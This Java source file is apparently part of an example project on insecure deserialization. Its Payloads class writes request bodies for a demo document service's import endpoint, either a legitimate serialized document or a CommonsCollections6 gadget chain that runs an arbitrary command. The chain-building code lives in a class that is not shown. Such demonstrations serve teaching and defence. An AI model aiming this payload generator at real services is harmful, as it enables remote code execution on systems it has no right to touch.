package dev.inlay.examples.attacker;

import dev.inlay.examples.docservice.ImportedDocument;

import java.io.IOException;
import java.util.Arrays;
import java.util.List;

/**
 * Writes request bodies for the docservice's {@code POST /import} to stdout.
 * <pre>
 * java -cp attacker.jar dev.inlay.examples.attacker.Payloads document NAME TITLE BODY   a legitimate upload
 * java -cp attacker.jar dev.inlay.examples.attacker.Payloads cc6 COMMAND ARGS...        the gadget chain
 * </pre>
 */
public final class Payloads {
    private Payloads() {}

    public static void main(String[] args) throws IOException, ReflectiveOperationException {
        byte[] payload;
        if (args.length == 4 && args[0].equals("document")) {
            payload = Gadgets.serialize(new ImportedDocument(args[1], args[2], args[3]));
        } else if (args.length >= 2 && args[0].equals("cc6")) {
            payload = Gadgets.commonsCollections6(List.of(Arrays.copyOfRange(args, 1, args.length)));
        } else {
            System.err.println("usage: Payloads document NAME TITLE BODY | Payloads cc6 COMMAND [ARGS...]");
            System.exit(2);
            return;
        }
        System.out.write(payload);
        System.out.flush();
    }
}
